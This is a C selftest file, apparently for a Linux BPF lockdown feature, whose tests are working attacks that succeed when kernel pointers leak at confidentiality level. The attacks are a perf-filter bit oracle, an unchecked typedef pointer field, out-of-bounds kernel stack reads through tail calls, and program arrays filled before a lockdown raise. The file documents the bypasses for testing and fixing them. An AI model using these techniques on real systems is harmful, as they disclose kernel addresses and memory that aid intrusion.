// SPDX-License-Identifier: GPL-2.0
/* BPF lockdown selftests - attacks on trace events at confidentiality */

/*
 * Each test is an attack on what a kernel at confidentiality keeps closed
 * about trace records: the pointer fields that bpf_lockdown_tp_fields()
 * keeps from unsigned tracepoint programs and the raw records that
 * bpf_lockdown_check_perf_raw() keeps from perf. A test passes when the
 * attack gets what it is after: each documents a way around those rules.
 *
 * prog_array_filled_before_raise_runs_after_it raises the lockdown level,
 * which only a reboot undoes: it runs only when ATTACK_RAISE=1 is set, in
 * a test VM booted at integrity.
 */
#define _GNU_SOURCE
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <linux/perf_event.h>

#include "lockdown_util.h"
#include "insn.h"
#include "kselftest_harness.h"

#define N(a) (sizeof(a) / sizeof((a)[0]))

#define STX_DW(d, s, o)		INSN(BPF_STX | BPF_MEM | BPF_DW, d, s, o, 0)
#define RSH64_IMM(d, i)		INSN(BPF_ALU64 | BPF_RSH | BPF_K, d, 0, 0, i)
#define JEQ_IMM(d, i, o)	INSN(BPF_JMP | BPF_JEQ | BPF_K, d, 0, o, i)
#define JNE_IMM(d, i, o)	INSN(BPF_JMP | BPF_JNE | BPF_K, d, 0, o, i)
#define LD_MAP_VALUE(d, fd, off) \
	INSN(BPF_LD | BPF_DW | BPF_IMM, d, BPF_PSEUDO_MAP_VALUE, 0, fd), INSN(0, 0, 0, 0, off)
#define LD_MAP(d, fd) \
	INSN(BPF_LD | BPF_DW | BPF_IMM, d, BPF_PSEUDO_MAP_FD, 0, fd), INSN(0, 0, 0, 0, 0)

/* if (r2 = *(u64 *)(ctx + @off)) *(u64 *)&out[@slot] = r2 */
#define STORE_CTX_FIELD(out, off, slot)						\
	LDX_DW(BPF_REG_2, BPF_REG_1, off), JEQ_IMM(BPF_REG_2, 0, 3),		\
	LD_MAP_VALUE(BPF_REG_1, out, (slot) * 8), STX_DW(BPF_REG_1, BPF_REG_2, 0)

#define LOG_SIZE (1024 * 1024)
static char log_buf[LOG_SIZE];

static bool conf(void)
{
	return ld_level() == BPF_LOCKDOWN_LEVEL_CONFIDENTIALITY;
}

static bool conf_enforced(void)
{
	return conf() && ld_mode() == BPF_LOCKDOWN_MODE_ENFORCE;
}

/* A kernel address on x86-64 */
static bool kernel_address(__u64 v)
{
	return v >> 56 == 0xff;
}

static int load(enum bpf_prog_type type, const struct bpf_insn *insns, unsigned int cnt,
		const char *name)
{
	struct ld_load l = { .type = type, .insns = insns, .cnt = cnt, .name = name };

	return ld_prog_load(&l, log_buf, LOG_SIZE);
}

#define LOAD(insns, name) load(BPF_PROG_TYPE_TRACEPOINT, insns, N(insns), name)

static int bpf_map_create_raw(enum bpf_map_type type, __u32 key, __u32 value, __u32 max)
{
	union bpf_attr attr;
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = type;
	attr.key_size = key;
	attr.value_size = value;
	attr.max_entries = max;
	fd = syscall(__NR_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	return fd < 0 ? -errno : fd;
}

/* An array of one 32-byte value, for what a program stores */
static int out_map(void)
{
	return bpf_map_create_raw(BPF_MAP_TYPE_ARRAY, 4, 32, 1);
}

static __u64 out_value(int map, int i)
{
	union bpf_attr attr;
	__u64 v[4] = {};
	__u32 key = 0;

	memset(&attr, 0, sizeof(attr));
	attr.map_fd = map;
	attr.key = (__u64)(unsigned long)&key;
	attr.value = (__u64)(unsigned long)v;
	syscall(__NR_bpf, BPF_MAP_LOOKUP_ELEM, &attr, sizeof(attr));
	return v[i];
}

/* perf event of trace event @tp for this thread: counting, or sampling @sample_type */
static int tp_open(const char *tp, bool sampling, __u64 sample_type)
{
	struct perf_event_attr a = { .size = sizeof(a), .type = PERF_TYPE_TRACEPOINT };
	long id = ld_tracepoint_id(tp);
	int fd;

	if (id < 0)
		return id;
	a.config = id;
	if (sampling) {
		a.sample_type = sample_type;
		a.sample_period = 1;
	}
	fd = syscall(__NR_perf_event_open, &a, 0, -1, -1, PERF_FLAG_FD_CLOEXEC);
	return fd < 0 ? -errno : fd;
}

/* PERF_EVENT_IOC_SET_BPF of @prog on @tp for this thread: perf fd or -errno */
static int tp_attach(const char *tp, int prog)
{
	int fd = tp_open(tp, true, 0);

	if (fd < 0)
		return fd;
	if (ioctl(fd, PERF_EVENT_IOC_SET_BPF, prog)) {
		int err = -errno;

		close(fd);
		return err;
	}
	return fd;
}

/* A counting perf event on @tp that counts only records that match @filter */
static int tp_counter(const char *tp, const char *filter)
{
	int fd = tp_open(tp, false, 0);

	if (fd < 0)
		return fd;
	if (ioctl(fd, PERF_EVENT_IOC_SET_FILTER, filter)) {
		int err = -errno;

		close(fd);
		return err;
	}
	return fd;
}

static __u64 counter_read(int fd)
{
	__u64 v = 0;

	if (read(fd, &v, sizeof(v)) != sizeof(v))
		return 0;
	return v;
}

/* F_SETLK of a read lock on @fd: locks_get_lock_context() traces the inode's context */
static void read_lock(int fd)
{
	struct flock fl = { .l_type = F_RDLCK, .l_whence = SEEK_SET };

	fcntl(fd, F_SETLK, &fl);
}

/*
 * The address of the lock context of @fd's inode, bit by bit: 64 counting
 * perf events on filelock:locks_get_lock_context, each filtered on one bit
 * of the record's ctx field (a struct file_lock_context *), count the
 * record of one fcntl() or not. Returns the address, or 0 if the event
 * did not count.
 */
static __u64 filter_oracle(struct __test_metadata *_metadata, int fd, ino_t ino)
{
	const char *tp = "filelock/locks_get_lock_context";
	int bit[64], any, b;
	char filter[128];
	__u64 v = 0;

	snprintf(filter, sizeof(filter), "i_ino == %llu", (unsigned long long)ino);
	any = tp_counter(tp, filter);
	EXPECT_LE(0, any) TH_LOG("%s with filter \"%s\": %s", tp, filter, strerror(-any));
	if (any < 0)
		return 0;
	for (b = 0; b < 64; b++) {
		snprintf(filter, sizeof(filter), "i_ino == %llu && ctx & 0x%llx",
			 (unsigned long long)ino, 1ULL << b);
		bit[b] = tp_counter(tp, filter);
		EXPECT_LE(0, bit[b]) TH_LOG("filter \"%s\": %s", filter, strerror(-bit[b]));
	}
	read_lock(fd);
	if (counter_read(any))
		for (b = 0; b < 64; b++)
			if (bit[b] >= 0 && counter_read(bit[b]))
				v |= 1ULL << b;
	EXPECT_NE(0ULL, counter_read(any)) TH_LOG("the event did not count");
	for (b = 0; b < 64; b++)
		if (bit[b] >= 0)
			close(bit[b]);
	close(any);
	return v;
}

/*
 * Counting is "not concerned" by the raw-record rule, but perf lets the
 * owner of a trace event's perf event filter what it counts on any field
 * of the record (PERF_EVENT_IOC_SET_FILTER), pointers included: one
 * counter per bit reads a pointer field whole. Here, the slab address of
 * an inode's lock context, which a tracepoint program may not read and
 * perf may not sample raw at confidentiality.
 */
TEST(perf_filter_reads_a_pointer_field_at_confidentiality)
{
	int out = out_map();
	/* ctx is at 24 in the record: i_ino 8, s_dev 16, type 20 */
	struct bpf_insn ctx_field[] = { STORE_CTX_FIELD(out, 24, 0), MOV64_IMM(BPF_REG_0, 0),
					EXIT };
	char fmt[4096];
	struct stat st;
	__u64 a, b;
	int fd, prog, pfd;

	ASSERT_LE(0, out);
	ASSERT_LT(0, ld_read("/sys/kernel/tracing/events/filelock/locks_get_lock_context/format",
			     fmt, sizeof(fmt)));
	ASSERT_NE(NULL, strstr(fmt, "struct file_lock_context * ctx;\toffset:24;"))
		TH_LOG("%s", fmt);

	/* what the tier keeps closed: a program reading ctx, perf's raw record */
	prog = LOAD(ctx_field, "at_flctx");
	ASSERT_LE(0, prog) TH_LOG("%s", log_buf);
	pfd = tp_attach("filelock/locks_get_lock_context", prog);
	if (conf_enforced())
		EXPECT_EQ(-EPERM, pfd);
	if (pfd >= 0)
		close(pfd);
	close(prog);
	pfd = tp_open("filelock/locks_get_lock_context", true, PERF_SAMPLE_RAW);
	if (conf_enforced())
		EXPECT_EQ(-EPERM, pfd);
	if (pfd >= 0)
		close(pfd);

	/* what perf's filters give all the same */
	fd = memfd_create("at_lock", 0);
	ASSERT_LE(0, fd);
	ASSERT_EQ(0, ftruncate(fd, 4096));
	ASSERT_EQ(0, fstat(fd, &st));
	read_lock(fd);	/* the inode gets its context */
	a = filter_oracle(_metadata, fd, st.st_ino);
	b = filter_oracle(_metadata, fd, st.st_ino);
	TH_LOG("lock context of the memfd's inode: 0x%llx (twice: 0x%llx)",
	       (unsigned long long)a, (unsigned long long)b);
	EXPECT_TRUE(kernel_address(a));
	EXPECT_EQ(a, b);
	EXPECT_EQ(0ULL, a & 7);
	close(fd);
	close(out);
}

/*
 * fl_owner_t is a typedef of void *: no '*' in the field's type string.
 * filelock:generic_add_lease puts the lease's owner, the struct file of the
 * fcntl(F_SETLEASE), at 32 after integer fields only, so an unsigned
 * program that reads it is attached at confidentiality and stores the
 * address of a struct file.
 */
TEST(typedef_pointer_field_is_read_at_confidentiality)
{
	int out = out_map();
	struct bpf_insn owner[] = { STORE_CTX_FIELD(out, 32, 0), MOV64_IMM(BPF_REG_0, 0), EXIT };
	const char *tp = "filelock/generic_add_lease";
	char fmt[4096];
	int fd, prog, pfd;
	__u64 v;

	ASSERT_LE(0, out);
	ASSERT_LT(0, ld_read("/sys/kernel/tracing/events/filelock/generic_add_lease/format",
			     fmt, sizeof(fmt)));
	ASSERT_NE(NULL, strstr(fmt, "fl_owner_t owner;\toffset:32;")) TH_LOG("%s", fmt);
	prog = LOAD(owner, "at_owner");
	ASSERT_LE(0, prog) TH_LOG("%s", log_buf);
	pfd = tp_attach(tp, prog);
	ASSERT_LE(0, pfd) TH_LOG("attach to %s: %s", tp, strerror(-pfd));
	fd = memfd_create("at_lease", 0);
	ASSERT_LE(0, fd);
	fcntl(fd, F_SETLEASE, F_WRLCK);
	v = out_value(out, 0);
	TH_LOG("struct file of the memfd: 0x%llx", (unsigned long long)v);
	EXPECT_TRUE(kernel_address(v));
	close(fd);
	close(pfd);
	close(prog);
	close(out);
}

/*
 * A tracepoint program that stores the first u64 of its context, from
 * offset @from on, that looks like a kernel address, and the offset
 */
static int load_scanner(int out, int from, int count, const char *name)
{
	struct bpf_insn insns[16 * 12 + 8];
	unsigned int n = 0;
	int i;

	insns[n++] = MOV64_REG(BPF_REG_6, BPF_REG_1);
	for (i = 0; i < count; i++) {
		int off = from + 8 * i;

		insns[n++] = LDX_DW(BPF_REG_2, BPF_REG_6, off);
		insns[n++] = MOV64_REG(BPF_REG_3, BPF_REG_2);
		insns[n++] = RSH64_IMM(BPF_REG_3, 56);
		insns[n++] = JNE_IMM(BPF_REG_3, 0xff, 6);
		insns[n++] = INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_1, BPF_PSEUDO_MAP_VALUE, 0,
				  out);
		insns[n++] = INSN(0, 0, 0, 0, 0);
		insns[n++] = STX_DW(BPF_REG_1, BPF_REG_2, 0);
		insns[n++] = ST_DW(BPF_REG_1, 8, off);
		insns[n++] = MOV64_IMM(BPF_REG_0, 0);
		insns[n++] = EXIT;
	}
	insns[n++] = MOV64_IMM(BPF_REG_0, 0);
	insns[n++] = EXIT;
	return load(BPF_PROG_TYPE_TRACEPOINT, insns, n, name);
}

/* A tracepoint program that reads nothing and tail-calls @map[@idx] */
static int load_caller(int map, int idx, const char *name)
{
	struct bpf_insn insns[] = {
		LD_MAP(BPF_REG_2, map), MOV64_IMM(BPF_REG_3, idx),
		CALL(BPF_FUNC_tail_call), MOV64_IMM(BPF_REG_0, 0), EXIT,
	};

	return LOAD(insns, name);
}

static int prog_array(void)
{
	return bpf_map_create_raw(BPF_MAP_TYPE_PROG_ARRAY, 4, 4, 2);
}

static int array_set(int map, __u32 key, int prog)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.map_fd = map;
	attr.key = (__u64)(unsigned long)&key;
	attr.value = (__u64)(unsigned long)&prog;
	return syscall(__NR_bpf, BPF_MAP_UPDATE_ELEM, &attr, sizeof(attr)) ? -errno : 0;
}

/*
 * The attach check bounds a program's reads by the event's fields
 * (max_ctx_offset against trace_event_get_offsets()), but nothing bounds
 * the program it tail-calls: a callee runs on the caller's context with
 * its own max_ctx_offset. On a syscall event the context is
 * perf_call_bpf_enter()'s 64-byte on-stack struct, so a callee reads the
 * kernel stack above it (return addresses, saved registers); on other
 * events, the per-CPU perf buffer past the record, which
 * perf_trace_buf_alloc() does not zero: earlier records of other events.
 * Below confidentiality: a stock out-of-bounds read.
 */
TEST(tail_call_callee_reads_past_the_record)
{
	int out = out_map(), map = prog_array(), callee, caller, pfd;
	__u64 v;

	if (conf())
		SKIP(return, "at confidentiality a callee that reads its context is refused");
	ASSERT_LE(0, out);
	ASSERT_LE(0, map);
	callee = load_scanner(out, 64, 16, "at_scan");
	ASSERT_LE(0, callee) TH_LOG("%s", log_buf);
	ASSERT_EQ(0, array_set(map, 0, callee));
	caller = load_caller(map, 0, "at_caller");
	ASSERT_LE(0, caller) TH_LOG("%s", log_buf);
	pfd = tp_attach("syscalls/sys_enter_getppid", caller);
	ASSERT_LE(0, pfd) TH_LOG("attach: %s", strerror(-pfd));
	getppid();
	v = out_value(out, 0);
	TH_LOG("kernel stack past sys_enter's context, at +%llu: 0x%llx",
	       (unsigned long long)out_value(out, 1), (unsigned long long)v);
	EXPECT_TRUE(kernel_address(v));
	close(pfd);
	close(caller);
	close(callee);
	close(map);
	close(out);
}

/*
 * bpf_lockdown_ctx_callee_ok() judges a program when it is put into a
 * program array, and the level rule refuses one loaded before a raise
 * there; but nothing judges what an array already holds when a program
 * loaded after the raise calls through it. Booted at integrity: put a
 * callee that reads kmem:kfree's ptr, and one that reads past the
 * record, into an array; raise to confidentiality; load callers that read
 * nothing, attach them (allowed), and the callees run on events chosen
 * after the raise.
 */
TEST(prog_array_filled_before_raise_runs_after_it)
{
	int out = out_map(), out2 = out_map(), map = prog_array();
	int ptr_callee, scan_callee, c0, c1, p0, p1;
	struct bpf_insn ptr[] = { STORE_CTX_FIELD(out, 16, 0), MOV64_IMM(BPF_REG_0, 0), EXIT };
	const char *raise = getenv("ATTACK_RAISE");

	if (!raise || strcmp(raise, "1"))
		SKIP(return, "raises the lockdown level: set ATTACK_RAISE=1 in a test VM");
	if (ld_level() != BPF_LOCKDOWN_LEVEL_INTEGRITY || ld_mode() != BPF_LOCKDOWN_MODE_ENFORCE)
		SKIP(return, "needs lockdown=integrity and bpf_lockdown.mode=enforce");
	ASSERT_LE(0, out);
	ASSERT_LE(0, out2);
	ASSERT_LE(0, map);
	ptr_callee = LOAD(ptr, "at_ptr");
	ASSERT_LE(0, ptr_callee) TH_LOG("%s", log_buf);
	scan_callee = load_scanner(out2, 64, 16, "at_scan");
	ASSERT_LE(0, scan_callee) TH_LOG("%s", log_buf);
	ASSERT_EQ(0, array_set(map, 0, ptr_callee));
	ASSERT_EQ(0, array_set(map, 1, scan_callee));

	ASSERT_EQ(0, ld_write("/sys/kernel/security/lockdown", "confidentiality", 15));
	ASSERT_TRUE(conf_enforced());
	/* the callees themselves are refused now */
	EXPECT_EQ(-EPERM, tp_attach("kmem/kfree", ptr_callee));

	c0 = load_caller(map, 0, "at_caller0");
	ASSERT_LE(0, c0) TH_LOG("%s", log_buf);
	c1 = load_caller(map, 1, "at_caller1");
	ASSERT_LE(0, c1) TH_LOG("%s", log_buf);
	p0 = tp_attach("kmem/kfree", c0);
	ASSERT_LE(0, p0) TH_LOG("attach: %s", strerror(-p0));
	p1 = tp_attach("syscalls/sys_enter_getppid", c1);
	ASSERT_LE(0, p1) TH_LOG("attach: %s", strerror(-p1));
	close(open("/proc/self/status", O_RDONLY));
	getppid();
	TH_LOG("kfree ptr: 0x%llx; stack past sys_enter's context at +%llu: 0x%llx",
	       (unsigned long long)out_value(out, 0), (unsigned long long)out_value(out2, 1),
	       (unsigned long long)out_value(out2, 0));
	EXPECT_TRUE(kernel_address(out_value(out, 0)));
	EXPECT_TRUE(kernel_address(out_value(out2, 0)));
	close(p0);
	close(p1);
	close(c0);
	close(c1);
	close(scan_callee);
	close(ptr_callee);
	close(map);
	close(out);
	close(out2);
}

TEST_HARNESS_MAIN
